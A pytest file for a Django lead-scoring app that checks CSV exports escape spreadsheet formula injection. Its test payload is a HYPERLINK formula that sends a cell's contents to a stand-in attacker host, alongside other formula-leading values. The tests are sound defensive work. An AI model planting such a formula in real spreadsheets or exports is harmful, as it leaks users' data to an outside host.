"""Formula cells (`=HYPERLINK(...)`, `@SUM(...)`) are written as text in every CSV we write: the admin
export and the import-errors CSV."""

import csv
import io

import pytest
from django.urls import reverse

from leadscoring.importing import leads_import
from leadscoring.models import Lead

from .import_files import csv_read, csv_write

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SUM = "@SUM(A1:A9)"


def test_the_admin_export_writes_formula_names_as_text(admin_client):
    Lead.objects.create(external_id="X-1", first_name=HYPERLINK, last_name=SUM, title="+1 555 0100")
    page = admin_client.get(reverse("admin:leadscoring_lead_export"))
    formats = dict((label.lower(), value) for value, label in page.context["form"].fields["format"].choices)
    response = admin_client.post(
        reverse("admin:leadscoring_lead_export"),
        {
            "resource": 0,
            "format": formats["csv"],
            "leadresource_external_id": "on",
            "leadresource_first_name": "on",
            "leadresource_last_name": "on",
            "leadresource_title": "on",
            "leadresource_budget": "on",
        },
    )
    assert response.status_code == 200, response.content[:300]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 1
    values = set(rows[0].values())
    assert HYPERLINK not in values and SUM not in values
    assert {"X-1", "'" + HYPERLINK, "'" + SUM, "'+1 555 0100"} <= values
    assert rows[0]["budget"] == ""  # an empty cell, not "None"


def test_the_import_errors_csv_writes_formula_cells_as_text(tmp_path):
    header = ["external_id", "first_name", "last_name", "timeline_days"]
    rows = [["L-1", "Ada", "Lovelace", "30"], ["L-2", HYPERLINK, SUM, "ten"], ["-L3", "\tTab", "\rCr", "x"]]
    errors = tmp_path / "errors.csv"
    result = leads_import(path=csv_write(tmp_path / "leads.csv", header, rows), errors_path=errors)
    assert result.rejected == 2
    written = csv_read(errors)
    assert [row["first_name"] for row in written] == ["'" + HYPERLINK, "'\tTab"]
    assert [row["last_name"] for row in written] == ["'" + SUM, "'\rCr"]
    assert written[1]["external_id"] == "'-L3"
    assert written[0]["row"] == "3" and "not a whole number" in written[0]["error"]
